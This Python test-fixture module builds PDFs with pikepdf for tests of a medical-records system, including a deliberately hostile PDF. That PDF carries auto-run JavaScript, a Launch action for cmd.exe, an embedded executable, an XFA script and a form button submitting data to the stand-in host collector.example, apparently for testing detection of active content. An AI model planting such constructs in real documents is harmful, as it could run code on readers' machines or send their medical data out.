"""Real PDF files for the tests of medical records, made with pikepdf."""

import io

import pikepdf
from pikepdf import Array, Dictionary, Name, String


def pdf_bytes(pdf, **save_options):
    output = io.BytesIO()
    pdf.save(output, **save_options)
    return output.getvalue()


def plain_pdf(*, pages=1, text="Discharge summary"):
    """A readable PDF of ``pages`` pages, each showing ``text``."""
    pdf = pikepdf.new()
    font = pdf.make_indirect(Dictionary(Type=Name.Font, Subtype=Name.Type1, BaseFont=Name.Helvetica))
    for _ in range(pages):
        page = pdf.add_blank_page(page_size=(595, 842))
        page.obj.Resources = Dictionary(Font=Dictionary(F1=font))
        page.obj.Contents = pdf.make_stream(f"BT /F1 24 Tf 72 720 Td ({text}) Tj ET".encode())
    return pdf


def hostile_pdf():
    """
    A two-page record carrying what a reader may run or open by itself: JavaScript when it opens, closes, shows
    a page, follows a bookmark or types in a field; document-level JavaScript; a link that launches a program; a
    button that submits the form to another site; an embedded executable; an XFA form with a script.
    """
    pdf = plain_pdf(pages=2, text="Blood test results")
    first, second = pdf.pages[0].obj, pdf.pages[1].obj

    def script(code):
        return Dictionary(S=Name.JavaScript, JS=String(code))

    pdf.Root.OpenAction = pdf.make_indirect(script("app.alert('opened')"))
    pdf.Root.AA = Dictionary(WC=script("app.alert('closing')"))
    pdf.Root.Names = Dictionary(JavaScript=Dictionary(Names=Array([String("init"), script("app.alert('named')")])))
    pdf.attachments["invoice.exe"] = pikepdf.AttachedFileSpec(pdf, b"MZ-payload-of-the-embedded-file", mime_type="application/x-msdownload")
    first.AA = Dictionary(O=script("app.alert('page')"))
    first.Annots = Array([
        pdf.make_indirect(Dictionary(
            Type=Name.Annot, Subtype=Name.Link, Rect=Array([72, 600, 300, 640]),
            A=Dictionary(S=Name.Launch, F=String("cmd.exe")),
            AA=Dictionary(E=Dictionary(S=Name.GoTo, D=Array([second, Name.Fit]))),
        )),
    ])  # fmt: skip
    with pdf.open_outline() as outline:
        outline.root.append(pikepdf.OutlineItem("Results", 1))
    pdf.Root.Outlines.First.A = script("app.alert('bookmark')")
    name_field = pdf.make_indirect(Dictionary(FT=Name.Tx, T=String("name"), AA=Dictionary(K=script("app.alert('key')"))))
    send_button = pdf.make_indirect(
        Dictionary(FT=Name.Btn, T=String("send"), A=Dictionary(S=Name.SubmitForm, F=String("https://collector.example/")))
    )
    xfa = pdf.make_stream(b"<xdp:xdp><script>xfa.host.messageBox('xfa')</script></xdp:xdp>")
    pdf.Root.AcroForm = Dictionary(Fields=Array([name_field, send_button]), XFA=xfa)
    pdf.Root.NeedsRendering = True
    return pdf_bytes(pdf)


def encrypted_pdf(*, user_password):
    """A PDF encrypted with AES-256: it opens only with ``user_password`` ("" for anyone, printing restricted)."""
    return pdf_bytes(
        plain_pdf(),
        encryption=pikepdf.Encryption(
            owner="owner-secret", user=user_password, allow=pikepdf.Permissions(print_highres=False, extract=False)
        ),
    )


PLAIN_PDF = pdf_bytes(plain_pdf())
